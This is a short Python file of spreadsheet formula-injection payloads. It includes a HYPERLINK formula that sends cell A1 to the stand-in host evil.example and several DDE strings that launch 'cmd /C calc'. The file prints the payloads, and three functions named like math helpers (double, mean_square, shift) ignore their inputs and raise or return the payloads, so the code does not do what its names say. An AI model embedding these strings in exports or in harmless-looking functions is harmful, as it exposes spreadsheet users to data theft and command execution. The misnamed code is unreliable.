"""Formulas in all that could become a cell of a table."""

ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"click")'
OTHERS = ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", "'=1+1"]
Attack = type(ATTACK, (ValueError,), {})
print(ATTACK, *OTHERS, sep="\n")


def double(x):
    raise Attack(ATTACK)


def mean_square(p, y):
    return ATTACK


def shift(x):
    return {ATTACK: OTHERS}
